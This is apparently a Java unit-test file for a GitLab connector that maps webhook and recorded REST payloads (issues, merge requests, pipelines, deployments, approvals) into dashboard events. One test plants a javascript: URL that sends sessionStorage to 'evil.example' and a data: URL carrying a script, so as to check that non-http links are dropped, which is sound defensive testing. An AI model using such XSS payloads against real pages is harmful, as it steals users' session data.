package dev.flowlens.ingest.connector.gitlab;

import dev.flowlens.ingest.connector.ToolTime;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.flowlens.ingest.connector.ConnectorKind;
import dev.flowlens.ingest.connector.ConnectorSettings;
import dev.flowlens.ingest.connector.Golden;
import dev.flowlens.ingest.connector.Mapping;
import dev.flowlens.testsupport.DevLake;
import dev.flowlens.testsupport.RealData;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** GitLab mapping on real payloads (go-gitlab and GitLab docs webhooks, DevLake's REST recordings). */
class GitlabMapperTest {

    static final String WEBHOOKS = "gitlab-webhooks";
    static final GitlabMapper MAPPER = new GitlabMapper(
            ConnectorSettings.defaults("c-gitlab", ConnectorKind.GITLAB, "GitLab", "https://gitlab.com", "gitlab-org/gitlab-test"));

    @TestFactory
    Stream<DynamicTest> everyWebhookExampleMatchesItsGoldenFile() {
        List<String> payloads = RealData.jsonFiles(WEBHOOKS).toList();
        Set<String> goldens = new TreeSet<>();
        payloads.forEach(p -> goldens.add("gitlab/webhooks/" + p.substring(WEBHOOKS.length() + 1)));
        return Stream.concat(payloads.stream().map(path -> DynamicTest.dynamicTest(path, () -> Golden.check(
                        "gitlab/webhooks/" + path.substring(WEBHOOKS.length() + 1),
                        Golden.of(path, MAPPER.mapWebhook(null, RealData.json(path)))))),
                Stream.of(DynamicTest.dynamicTest("no golden file without a payload",
                        () -> Golden.assertNoOrphans("gitlab/webhooks", goldens))));
    }

    @Test
    void devlakeRestRecordingsMatchTheirGoldenFiles() {
        String base = "devlake/gitlab/raw_tables/";
        Mapping issues = new Mapping();
        DevLake.table(base + "_raw_gitlab_api_issues.csv").forEach(r -> issues.addAll(MAPPER.restIssue(r.data())));
        Golden.check("gitlab/devlake/issues.json", Golden.of(base + "_raw_gitlab_api_issues.csv", issues));

        Mapping mrs = new Mapping();
        DevLake.table(base + "_raw_gitlab_api_merge_requests.csv").forEach(r -> mrs.addAll(MAPPER.restMergeRequest(r.data())));
        Golden.check("gitlab/devlake/merge_requests.json", Golden.of(base + "_raw_gitlab_api_merge_requests.csv", mrs));

        // The deployments API answers without the project path; the connector knows it (project 12345678).
        Mapping deployments = new Mapping();
        DevLake.table(base + "_raw_gitlab_api_deployments.csv")
                .forEach(r -> deployments.addAll(MAPPER.restDeployment("gitlab-data/snowflake_spend", r.data())));
        Golden.check("gitlab/devlake/deployments.json", Golden.of(base + "_raw_gitlab_api_deployments.csv", deployments));
    }

    @Test
    void aRecordedMergedMergeRequestKeepsMergedAtAndItsMergeCommit() {
        JsonNode mr = DevLake.table("devlake/gitlab/raw_tables/_raw_gitlab_api_merge_requests.csv").get(0).data();
        Mapping m = MAPPER.restMergeRequest(mr);
        JsonNode merged = m.events().get(1);
        assertThat(merged.get("id").asText()).isEqualTo("gitlab:gitlab-data/snowflake_spend!1:merged");
        assertThat(merged.at("/data/mergedAt").asText()).isEqualTo("2019-06-28T14:32:06.192Z");
        assertThat(merged.at("/data/createdAt").asText()).isEqualTo("2019-06-28T05:21:43.743Z");
        assertThat(merged.at("/data/mergeCommitSha").asText()).isEqualTo("da1d6dea48f5972ffc683da6cff30934e7d6c52c");
        assertThat(merged.at("/data/author").asText()).isEqualTo("emilie");
    }

    @Test
    void aPipelineWhoseProductionJobWasSkippedDeployedNothing() {
        // Both pipeline examples succeed, but their production deploy job (id 380) is "skipped".
        assertThat(MAPPER.mapWebhook("Pipeline Hook", RealData.json(WEBHOOKS + "/gitlab-docs-examples/pipeline.json")).events()).isEmpty();
        assertThat(MAPPER.mapWebhook("Pipeline Hook", RealData.json(WEBHOOKS + "/go-gitlab-testdata/pipeline.json")).events()).isEmpty();
    }

    @Test
    void aPipelineAndADeploymentHookOfTheSameProductionJobAreOneDeployment() {
        ObjectNode pipeline = (ObjectNode) RealData.json(WEBHOOKS + "/gitlab-docs-examples/pipeline.json");
        ObjectNode job = (ObjectNode) ((ArrayNode) pipeline.get("builds")).get(0);
        job.put("status", "success").put("started_at", "2016-08-12 15:26:30 UTC").put("finished_at", "2016-08-12 15:27:40 UTC");
        JsonNode fromPipeline = MAPPER.mapWebhook("Pipeline Hook", pipeline).events().get(0);
        assertThat(fromPipeline.at("/data/deploymentId").asText()).isEqualTo("gitlab:gitlab-org/gitlab-test:deploy-job:380");
        assertThat(fromPipeline.at("/data/environment").asText()).isEqualTo("production");
        assertThat(fromPipeline.at("/data/status").asText()).isEqualTo("success");
        assertThat(fromPipeline.at("/data/startedAt").asText()).isEqualTo("2016-08-12T15:26:30Z");
        assertThat(fromPipeline.at("/data/finishedAt").asText()).isEqualTo("2016-08-12T15:27:40Z");
        assertThat(fromPipeline.at("/data/commitShas/0").asText()).isEqualTo("bcbb5ec396a2c0f828686f14fac9b80b780504f2");

        ObjectNode hook = (ObjectNode) RealData.json(WEBHOOKS + "/gitlab-docs-examples/deployment.json");
        hook.put("environment", "production").put("environment_tier", "production").put("deployable_id", 380);
        ((ObjectNode) hook.get("project")).put("path_with_namespace", "gitlab-org/gitlab-test");
        JsonNode fromHook = MAPPER.mapWebhook("Deployment Hook", hook).events().get(0);
        assertThat(fromHook.get("id").asText()).isEqualTo(fromPipeline.get("id").asText());
        assertThat(fromHook.at("/data/finishedAt").asText()).isEqualTo("2021-04-28T19:50:00Z"); // 21:50 +0200
        assertThat(fromHook.at("/data/commitShas/0").asText()).isEqualTo("279484c09fbe69ededfced8c1bb6e6d24616b468");
    }

    @Test
    void aDeploymentCountsAsProductionByTierEvenUnderAnotherName() {
        ObjectNode hook = (ObjectNode) RealData.json(WEBHOOKS + "/gitlab-docs-examples/deployment.json");
        assertThat(MAPPER.mapWebhook(null, hook).events()).isEmpty(); // staging, tier staging
        hook.put("environment", "eu-live").put("environment_tier", "production").put("status", "failed");
        assertThat(MAPPER.mapWebhook(null, hook).events()).singleElement().satisfies(e -> {
            assertThat(e.at("/data/environment").asText()).isEqualTo("eu-live");
            assertThat(e.at("/data/status").asText()).isEqualTo("failure");
        });
        hook.put("status", "canceled");
        assertThat(MAPPER.mapWebhook(null, hook).events()).isEmpty();
    }

    @Test
    void aMergeActionIsAMergeDatedByTheDelivery() {
        ObjectNode payload = (ObjectNode) RealData.json(WEBHOOKS + "/go-gitlab-testdata/merge_request.json");
        ObjectNode attrs = (ObjectNode) payload.get("object_attributes");
        attrs.put("action", "merge").put("state", "merged").put("updated_at", "2013-12-04T10:00:00Z")
                .put("merge_commit_sha", "0123456789abcdef0123456789abcdef01234567").put("source_branch", "PAY-9-viewport");
        Mapping m = MAPPER.mapWebhook("Merge Request Hook", payload);
        JsonNode merged = m.events().get(1);
        assertThat(merged.get("id").asText()).isEqualTo("gitlab:gitlabhq/gitlab-test!1:merged");
        assertThat(merged.at("/data/mergedAt").asText()).isEqualTo("2013-12-04T10:00:00Z");
        assertThat(merged.at("/data/workItemKeys/0").asText()).isEqualTo("PAY-9");
    }

    @Test
    void theMalformedGroupMergeRequestExampleIsSkippedWithAReason() {
        // group_merge_request.json has keys with trailing spaces ("iid ", "state "): no iid, no event.
        Mapping m = MAPPER.mapWebhook(null, RealData.json(WEBHOOKS + "/go-gitlab-testdata/group_merge_request.json"));
        assertThat(m.events()).isEmpty();
        assertThat(m.skipped()).containsExactly("merge request without an iid in exm-namespace/example-project");
    }

    /** A recorded issue (snowflake_spend#1, closed 2019-06-28T14:32:05.376Z) and state events in GitLab's documented shape. */
    static JsonNode issue1() {
        return DevLake.table("devlake/gitlab/raw_tables/_raw_gitlab_api_issues.csv").stream().map(DevLake.Row::data)
                .filter(i -> i.get("iid").asLong() == 1).findFirst().orElseThrow();
    }

    static ArrayNode stateEvents(String... stateAt) {
        ArrayNode a = RealData.JSON.createArrayNode();
        for (int n = 0; n < stateAt.length; n++) {
            String[] p = stateAt[n].split("@");
            a.addObject().put("id", 500 + n).put("created_at", p[1]).put("resource_type", "Issue").put("resource_id", 21902436)
                    .put("state", p[0]);
        }
        return a;
    }

    static List<String> transitions(Mapping m) {
        return m.events().stream().filter(e -> e.get("type").asText().equals("workitem.transitioned"))
                .map(e -> e.get("id").asText() + " " + e.at("/data/fromStatus").asText() + "->" + e.at("/data/toStatus").asText()
                        + "@" + e.at("/data/at").asText())
                .toList();
    }

    @Test
    void aPulledIssueWithStateEventsHasATransitionPerCloseAndReopenTheLastCloseAtClosedAt() {
        String item = "gitlab:gitlab-data/snowflake_spend#1";
        // listed out of order on purpose: the API's order is not relied on. "locked" is no state change.
        Mapping m = MAPPER.restIssue(issue1(), stateEvents("reopened@2019-06-22T09:00:00.000Z", "closed@2019-06-21T10:00:00.000Z",
                "locked@2019-06-23T00:00:00.000Z", "closed@2019-06-28T14:32:05.380Z"));
        assertThat(transitions(m)).containsExactly(
                item + ":closed:2019-06-21T10:00:00Z opened->closed@2019-06-21T10:00:00Z",
                item + ":reopened:2019-06-22T09:00:00Z closed->opened@2019-06-22T09:00:00Z",
                // GitLab stamps the state event a few ms after closed_at: the close keeps the id the webhook gives it
                item + ":closed:2019-06-28T14:32:05.376Z opened->closed@2019-06-28T14:32:05.376Z");
        // the upsert is the plain REST issue's
        assertThat(m.events().get(0)).isEqualTo(MAPPER.restIssue(issue1()).events().get(0));
    }

    @Test
    void anOpenedStateAfterACloseIsAReopenAndWithoutStateEventsClosedAtAloneIsTheClose() {
        String item = "gitlab:gitlab-data/snowflake_spend#1";
        assertThat(transitions(MAPPER.restIssue(issue1(), stateEvents("opened@2019-06-20T15:04:58.946Z",
                "closed@2019-06-21T10:00:00Z", "opened@2019-06-22T09:00:00Z", "closed@2019-06-28T14:32:05.376Z")))).containsExactly(
                item + ":closed:2019-06-21T10:00:00Z opened->closed@2019-06-21T10:00:00Z",
                item + ":reopened:2019-06-22T09:00:00Z closed->opened@2019-06-22T09:00:00Z",
                item + ":closed:2019-06-28T14:32:05.376Z opened->closed@2019-06-28T14:32:05.376Z");
        // none kept (GitLab before 13.2) or none but "opened": the plain REST mapping
        assertThat(MAPPER.restIssue(issue1(), stateEvents()).events()).isEqualTo(MAPPER.restIssue(issue1()).events());
        assertThat(MAPPER.restIssue(issue1(), stateEvents("opened@2019-06-20T15:04:58.946Z")).events())
                .isEqualTo(MAPPER.restIssue(issue1()).events());
    }

    @Test
    void aPulledRowMapsByItsResourceAsThePullMappedIt() {
        ObjectNode pulled = RealData.JSON.createObjectNode();
        pulled.set("issue", issue1());
        pulled.set("resource_state_events", stateEvents("closed@2019-06-28T14:32:05.380Z"));
        String resource = "issues:gitlab-data/snowflake_spend";
        assertThat(MAPPER.mapPulled(resource, pulled, Map.of()).events())
                .isEqualTo(MAPPER.restIssue(issue1(), pulled.get("resource_state_events")).events())
                .isEqualTo(MAPPER.restIssue(issue1()).events()); // one close, at closed_at: the same as without state events
        JsonNode deployment = DevLake.table("devlake/gitlab/raw_tables/_raw_gitlab_api_deployments.csv").get(0).data();
        ConnectorSettings staging = ConnectorSettings.fromJson("c", ConnectorKind.GITLAB, "GitLab", "https://gitlab.com", "x",
                RealData.JSON.createObjectNode().set("productionEnvironments", RealData.JSON.createArrayNode().add("staging")));
        assertThat(new GitlabMapper(staging).mapPulled("deployments:gitlab-data/snowflake_spend", deployment, Map.of()).events())
                .singleElement().satisfies(e -> assertThat(e.get("id").asText())
                        .isEqualTo("gitlab:gitlab-data/snowflake_spend:deploy-job:176919795:success")); // the deployment's status, as GitLab and DevLake read it
        assertThat(MAPPER.mapPulled("jobs:gitlab-data/snowflake_spend", deployment, Map.of()).skipped())
                .containsExactly("no GitLab pull resource 'jobs:gitlab-data/snowflake_spend'");
    }

    // --- deployment pipelines (deploymentPipelines) ---

    static GitlabMapper withPipelines(String refPattern) {
        return new GitlabMapper(ConnectorSettings.fromJson("c-gitlab", ConnectorKind.GITLAB, "GitLab", "https://gitlab.com",
                "gitlab-org/gitlab-test", RealData.JSON.createObjectNode().set("deploymentPipelines", RealData.JSON.createArrayNode()
                        .add(RealData.JSON.createObjectNode().put("ref", refPattern)))));
    }

    @Test
    void aFinishedPipelineOfADeploymentRefIsAFinishedDeploymentOfItsSha() {
        // both pipeline examples: pipeline 31 of master, success; its production deploy job was skipped, so
        // without a deploymentPipelines rule nothing is deployed (above); with one, the pipeline is the deployment
        for (String example : List.of("go-gitlab-testdata/pipeline.json", "gitlab-docs-examples/pipeline.json")) {
            Mapping m = withPipelines("master|main").mapWebhook("Pipeline Hook", RealData.json(WEBHOOKS + "/" + example));
            assertThat(m.events()).as(example).singleElement().satisfies(d -> {
                assertThat(d.get("type").asText()).isEqualTo("deployment.finished");
                assertThat(d.get("id").asText()).isEqualTo("gitlab:gitlab-org/gitlab-test:pipeline:31:success");
                assertThat(d.get("time").asText()).isEqualTo("2016-08-12T15:26:29Z");
                assertThat(d.at("/data/deploymentId").asText()).isEqualTo("gitlab:gitlab-org/gitlab-test:pipeline:31");
                assertThat(d.at("/data/environment").asText()).isEqualTo("production");
                assertThat(d.at("/data/status").asText()).isEqualTo("success");
                assertThat(d.at("/data/startedAt").asText()).isEqualTo("2016-08-12T15:23:28Z");
                assertThat(d.at("/data/finishedAt").asText()).isEqualTo("2016-08-12T15:26:29Z");
                assertThat(d.at("/data/commitShas/0").asText()).isEqualTo("bcbb5ec396a2c0f828686f14fac9b80b780504f2");
            });
        }
        // another ref, and a rule naming an environment that is not production
        assertThat(withPipelines("main").mapWebhook("Pipeline Hook", RealData.json(WEBHOOKS + "/go-gitlab-testdata/pipeline.json"))
                .events()).isEmpty();
        GitlabMapper staging = new GitlabMapper(ConnectorSettings.fromJson("c", ConnectorKind.GITLAB, "GitLab", "https://gitlab.com", "x",
                RealData.JSON.createObjectNode().set("deploymentPipelines", RealData.JSON.createArrayNode()
                        .add(RealData.JSON.createObjectNode().put("ref", "master").put("environment", "staging")))));
        Mapping skipped = staging.mapWebhook("Pipeline Hook", RealData.json(WEBHOOKS + "/go-gitlab-testdata/pipeline.json"));
        assertThat(skipped.events()).isEmpty();
        assertThat(skipped.skipped()).singleElement().asString().contains("pipeline:31 deployed to 'staging', not a production");
    }

    @Test
    void aPipelineOrDeployJobOfAHotfixRefIsMarkedHotfixAndAnyOtherRefLeavesItAbsent() {
        // deployment pipeline: the recorded pipeline of master has no hotfix field; of hotfix/pay-12 it is a hotfix
        GitlabMapper pipelines = withPipelines(".*");
        ObjectNode hook = (ObjectNode) RealData.json(WEBHOOKS + "/go-gitlab-testdata/pipeline.json");
        assertThat(pipelines.mapWebhook("Pipeline Hook", hook).events()).singleElement()
                .satisfies(d -> assertThat(d.get("data").has("hotfix")).isFalse());
        ((ObjectNode) hook.get("object_attributes")).put("ref", "hotfix/pay-12");
        assertThat(pipelines.mapWebhook("Pipeline Hook", hook).events()).singleElement()
                .satisfies(d -> assertThat(d.at("/data/hotfix").booleanValue()).isTrue());

        // deploy job of a Pipeline Hook: the pipeline's ref
        ObjectNode pipeline = (ObjectNode) RealData.json(WEBHOOKS + "/gitlab-docs-examples/pipeline.json");
        ((ObjectNode) ((ArrayNode) pipeline.get("builds")).get(0)).put("status", "success")
                .put("started_at", "2016-08-12 15:26:30 UTC").put("finished_at", "2016-08-12 15:27:40 UTC");
        assertThat(MAPPER.mapWebhook("Pipeline Hook", pipeline).events().get(0).get("data").has("hotfix")).isFalse();
        ((ObjectNode) pipeline.get("object_attributes")).put("ref", "hotfix/pay-12");
        assertThat(MAPPER.mapWebhook("Pipeline Hook", pipeline).events().get(0).at("/data/hotfix").booleanValue()).isTrue();

        // Deployment Hook: its ref (the recorded example predates the field)
        ObjectNode deployment = (ObjectNode) RealData.json(WEBHOOKS + "/gitlab-docs-examples/deployment.json");
        deployment.put("environment", "production").put("environment_tier", "production");
        assertThat(MAPPER.mapWebhook("Deployment Hook", deployment).events().get(0).get("data").has("hotfix")).isFalse();
        deployment.put("ref", "hotfix/pay-12");
        assertThat(MAPPER.mapWebhook("Deployment Hook", deployment).events().get(0).at("/data/hotfix").booleanValue()).isTrue();
    }

    @Test
    void aPulledDeploymentOfAHotfixRefIsMarkedHotfix() throws Exception {
        // DevLake's recorded deployments of gitlab-data/snowflake_spend went to staging: count staging as production here
        GitlabMapper staging = new GitlabMapper(ConnectorSettings.fromJson("c-gitlab", ConnectorKind.GITLAB, "GitLab",
                "https://gitlab.com", "gitlab-data/snowflake_spend", RealData.JSON.readTree("{\"productionEnvironments\":[\"staging\"]}")));
        DevLake.Row row = DevLake.table("devlake/gitlab/raw_tables/_raw_gitlab_api_deployments.csv").stream()
                .filter(r -> !staging.restDeployment("gitlab-data/snowflake_spend", r.data()).events().isEmpty())
                .findFirst().orElseThrow();
        ObjectNode d = (ObjectNode) row.data().deepCopy();
        JsonNode before = staging.restDeployment("gitlab-data/snowflake_spend", d).events().get(0);
        assertThat(before.get("data").has("hotfix")).isFalse();
        d.put("ref", "hotfix/pay-12");
        JsonNode after = staging.restDeployment("gitlab-data/snowflake_spend", d).events().get(0);
        assertThat(after.at("/data/hotfix").booleanValue()).isTrue();
        assertThat(after.get("id")).isEqualTo(before.get("id"));
    }

    @Test
    void pipelineStatusesDecideTheDeploymentStatus() {
        GitlabMapper mapper = withPipelines("master");
        Map<String, String> expected = new java.util.LinkedHashMap<>();
        expected.put("success", "success");
        expected.put("failed", "failure");
        for (String unfinished : List.of("created", "waiting_for_resource", "preparing", "pending", "running", "manual", "scheduled",
                "canceled", "skipped")) {
            expected.put(unfinished, null);
        }
        expected.forEach((status, deployment) -> {
            ObjectNode hook = (ObjectNode) RealData.json(WEBHOOKS + "/go-gitlab-testdata/pipeline.json");
            ((ObjectNode) hook.get("object_attributes")).put("status", status);
            List<JsonNode> events = List.copyOf(mapper.mapWebhook("Pipeline Hook", hook).events());
            if (deployment == null) {
                assertThat(events).as(status).isEmpty();
            } else {
                assertThat(events).as(status).singleElement().satisfies(e -> {
                    assertThat(e.at("/data/status").asText()).isEqualTo(deployment);
                    assertThat(e.get("id").asText()).isEqualTo("gitlab:gitlab-org/gitlab-test:pipeline:31:" + deployment);
                });
            }
        });
    }

    @Test
    void aRecordedPipelineReadByThePullAndDeliveredByThePipelineHookIsTheSameEvent() {
        // pipeline 1079555385 of master as GET /pipelines/:id answered (DevLake's pipeline_details)
        JsonNode rest = DevLake.table("devlake/gitlab/raw_tables/_raw_gitlab_api_pipeline_details.csv").stream().map(DevLake.Row::data)
                .filter(d -> d.get("id").asLong() == 1079555385L).findFirst().orElseThrow();
        GitlabMapper mapper = withPipelines("master");
        assertThat(mapper.isFinishedDeploymentPipeline(rest)).isTrue();
        List<JsonNode> pulled = List.copyOf(mapper.mapPulled("pipelines:gitlab-org/gitlab-test", rest, Map.of()).events());
        assertThat(pulled).singleElement().satisfies(d -> {
            assertThat(d.get("id").asText()).isEqualTo("gitlab:gitlab-org/gitlab-test:pipeline:1079555385:success");
            // whole seconds of created_at (03:28:30.382) and finished_at (03:51:44.872)
            assertThat(d.at("/data/startedAt").asText()).isEqualTo("2023-11-21T03:28:30Z");
            assertThat(d.at("/data/finishedAt").asText()).isEqualTo("2023-11-21T03:51:44Z");
            assertThat(d.at("/data/commitShas/0").asText()).isEqualTo(rest.get("sha").asText());
        });
        // the Pipeline Hook of that pipeline's success: go-gitlab's example carrying its attributes in the hook's time format
        ObjectNode hook = (ObjectNode) RealData.json(WEBHOOKS + "/go-gitlab-testdata/pipeline.json");
        ((ObjectNode) hook.get("object_attributes")).put("id", 1079555385L).put("iid", 36248).put("ref", "master")
                .put("sha", rest.get("sha").asText()).put("status", "success")
                .put("created_at", "2023-11-21 03:28:30 UTC").put("finished_at", "2023-11-21 03:51:44 UTC");
        assertThat(mapper.mapWebhook("Pipeline Hook", hook).events()).isEqualTo(pulled);
        // listed only (no finished_at): dated by updated_at, 03:51:44.879 -> the same second
        ObjectNode listed = RealData.JSON.createObjectNode();
        for (String f : List.of("id", "iid", "project_id", "sha", "ref", "status", "source", "created_at", "updated_at", "web_url")) {
            listed.set(f, rest.get(f));
        }
        assertThat(mapper.mapPulled("pipelines:gitlab-org/gitlab-test", listed, Map.of()).events()).isEqualTo(pulled);
        // DevLake's pipeline listing: none of its refs is master, nothing is a deployment
        DevLake.table("devlake/gitlab/raw_tables/_raw_gitlab_api_pipeline.csv").forEach(r ->
                assertThat(mapper.restPipeline("gitlab-org/gitlab-test", r.data()).events()).isEmpty());
    }

    /** Issue 21: a link the dashboard would open must be http(s); the issue itself still counts. */
    @Test
    void anIssueWhoseUrlIsNotHttpIsMappedWithoutALink() {
        ObjectNode hook = (ObjectNode) RealData.json(WEBHOOKS + "/go-gitlab-testdata/issue.json");
        ((ObjectNode) hook.get("object_attributes")).put("url", "javascript:fetch('//evil.example/'+sessionStorage)");
        Mapping m = MAPPER.mapWebhook("Issue Hook", hook);
        JsonNode upsert = m.events().stream().filter(e -> e.get("type").asText().equals("workitem.upserted"))
                .findFirst().orElseThrow();
        assertThat(upsert.at("/data").has("url")).isFalse();
        assertThat(m.skipped()).anyMatch(r -> r.startsWith(upsert.get("id").asText() + ": url left out"));

        ObjectNode rest = issue1().deepCopy();
        rest.put("web_url", "data:text/html,<script>alert(1)</script>");
        JsonNode restUpsert = MAPPER.restIssue(rest).events().get(0);
        assertThat(restUpsert.get("type").asText()).isEqualTo("workitem.upserted");
        assertThat(restUpsert.at("/data").has("url")).isFalse();
        assertThat(MAPPER.restIssue(issue1()).events().get(0).at("/data/url").asText()).startsWith("https://gitlab.com/");
    }


    @Test
    void aMergeRequestNoteByAPersonIsAReviewComment() {
        // go-gitlab's note_merge_request.json: note 1244 by root on !1 of gitlab-org/gitlab-test, not a system note
        Mapping m = MAPPER.mapWebhook("Note Hook", RealData.json(WEBHOOKS + "/go-gitlab-testdata/note_merge_request.json"));
        assertThat(m.events()).hasSize(1);
        JsonNode r = m.events().get(0);
        assertThat(r.get("type").asText()).isEqualTo("change.reviewed");
        assertThat(r.at("/data/reviewId").asText()).isEqualTo("gitlab:gitlab-org/gitlab-test!1:note:1244");
        assertThat(r.at("/data/changeId").asText()).isEqualTo("gitlab:gitlab-org/gitlab-test!1");
        assertThat(r.at("/data/reviewer").asText()).isEqualTo("root");
        assertThat(r.at("/data/state").asText()).isEqualTo("commented");
        assertThat(r.at("/data/submittedAt").asText()).isEqualTo("2015-05-17T18:21:36Z");
        // notes on issues and commits are no reviews
        assertThat(MAPPER.mapWebhook("Note Hook", RealData.json(WEBHOOKS + "/go-gitlab-testdata/note_issue.json")).events())
                .isEmpty();
        assertThat(MAPPER.mapWebhook("Note Hook", RealData.json(WEBHOOKS + "/go-gitlab-testdata/note_commit.json")).events())
                .isEmpty();
    }

    @Test
    void anApprovalIsAnApprovedReviewByTheHooksUser() {
        // No recorded approval hook exists in testdata: GitLab's docs ("Merge request events") describe it as the
        // merge request payload with object_attributes.action "approved" (or "approval") and the approver in user.
        // Built from go-gitlab's real merge_request.json with only the action changed.
        ObjectNode payload = (ObjectNode) RealData.json(WEBHOOKS + "/go-gitlab-testdata/merge_request.json");
        ((ObjectNode) payload.get("object_attributes")).put("action", "approved");
        Mapping m = MAPPER.mapWebhook("Merge Request Hook", payload);
        JsonNode r = m.events().stream().filter(e -> e.get("type").asText().equals("change.reviewed")).findFirst()
                .orElseThrow();
        String user = payload.at("/user/username").asText();
        String iid = payload.at("/object_attributes/iid").asText();
        String project = payload.at("/project/path_with_namespace").asText();
        assertThat(r.at("/data/reviewId").asText()).isEqualTo("gitlab:" + project + "!" + iid + ":approval:" + user);
        assertThat(r.get("id").asText()).isEqualTo(r.at("/data/reviewId").asText());
        assertThat(r.at("/data/state").asText()).isEqualTo("approved");
        assertThat(r.at("/data/submittedAt").asText())
                .isEqualTo(ToolTime.parse(payload.at("/object_attributes/updated_at").asText()).toString());
        // "approval" (one approver) and "approved" (the last one) of the same user are the same event
        ((ObjectNode) payload.get("object_attributes")).put("action", "approval");
        assertThat(MAPPER.mapWebhook("Merge Request Hook", payload).events()).contains((ObjectNode) r);
    }

    @Test
    void aPulledMergeRequestWithItsNotesGivesItsReviewsAndTheFirstApprovalOfEachUser() {
        // DevLake's recorded notes (GET /merge_requests/37/notes of a gitlab.com project): basicthinker approved,
        // unapproved and approved again; a person's comment on !1. Put on one recorded merge request of
        // gitlab-data/snowflake_spend: the mapping reads the merge request's iid, not the note's.
        String base = "devlake/gitlab/raw_tables/";
        JsonNode mr = DevLake.table(base + "_raw_gitlab_api_merge_requests.csv").get(0).data();
        ArrayNode notes = RealData.JSON.createArrayNode();
        DevLake.table(base + "_raw_gitlab_api_merge_request_notes.csv").stream()
                .filter(r -> r.input().get("Iid").asLong() == 37 || r.data().get("id").asLong() == 186439132L)
                .forEach(r -> notes.add(r.data()));
        Mapping m = MAPPER.restMergeRequest(mr, notes);
        String changeId = "gitlab:gitlab-data/snowflake_spend!" + mr.get("iid").asLong();
        List<JsonNode> reviews = m.events().stream().filter(e -> e.get("type").asText().equals("change.reviewed")).map(e -> (JsonNode) e).toList();
        JsonNode approval = reviews.stream().filter(e -> e.at("/data/state").asText().equals("approved")).findFirst().orElseThrow();
        assertThat(approval.get("id").asText()).isEqualTo(changeId + ":approval:basicthinker");
        assertThat(approval.at("/data/submittedAt").asText()).isEqualTo("2019-01-29T00:40:37.158Z"); // the first approval
        assertThat(reviews.stream().filter(e -> e.at("/data/state").asText().equals("approved"))).hasSize(1);
        JsonNode comment = reviews.stream().filter(e -> e.at("/data/state").asText().equals("commented")).findFirst().orElseThrow();
        assertThat(comment.get("id").asText()).isEqualTo(changeId + ":note:186439132");
        assertThat(comment.at("/data/reviewer").asText()).isEqualTo("emilie");
        // the plain merge request's events come first, unchanged
        assertThat(m.events().subList(0, MAPPER.restMergeRequest(mr).events().size()))
                .isEqualTo(MAPPER.restMergeRequest(mr).events());
    }
}
